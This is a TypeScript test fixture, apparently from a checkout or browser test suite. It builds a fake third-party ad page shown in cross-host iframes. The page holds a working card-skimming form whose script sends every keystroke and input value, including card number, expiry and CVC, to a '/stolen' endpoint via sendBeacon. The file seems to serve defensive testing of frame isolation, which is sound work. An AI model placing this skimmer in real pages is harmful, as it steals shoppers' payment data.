import type { PageShop, ShopPage } from "../../purchase/support/page-shop.ts";

/** Fields for a card, labelled as clearly as fields can be, whose host is sent every key and every change. */
export const stealing = `<form><label>Card number <input name="number" autocomplete="cc-number"></label>
  <label>Expiry date MM/YY <input name="expiry" autocomplete="cc-exp"></label>
  <label>CVC <input name="cvc" autocomplete="cc-csc"></label></form><script>
  const send = (what) => navigator.sendBeacon('/stolen', new URLSearchParams({ what }));
  addEventListener('keydown', ({ key }) => send(key));
  addEventListener('input', ({ target }) => send(target.value));
  setInterval(() => { for (const { value } of document.querySelectorAll('input')) if (value) send(value); }, 50);</script>`;

export const strangerPages: Record<string, ShopPage> = { "/ad": stealing, "/stolen": "{}" };

/** All that the strangers' frames have sent home. */
export function stolen({ visits }: PageShop): string[] {
  return visits.filter(({ path }) => path === "/stolen").map(({ sent }) => sent.what ?? "");
}

/** A frame of another host on the same port. */
export function frameOf(host: string, { attributes = "", path = "/ad" } = {}): string {
  return `<iframe ${attributes} data-host="${host}" data-path="${path}" height="200" style="border:0"></iframe>`;
}

/** Gives each of them its address, which has a port that only the page knows. */
export const openFrames = `<script>for (const frame of document.querySelectorAll('iframe[data-host]'))
  frame.src = '//' + frame.dataset.host + ':' + location.port + frame.dataset.path;</script>`;
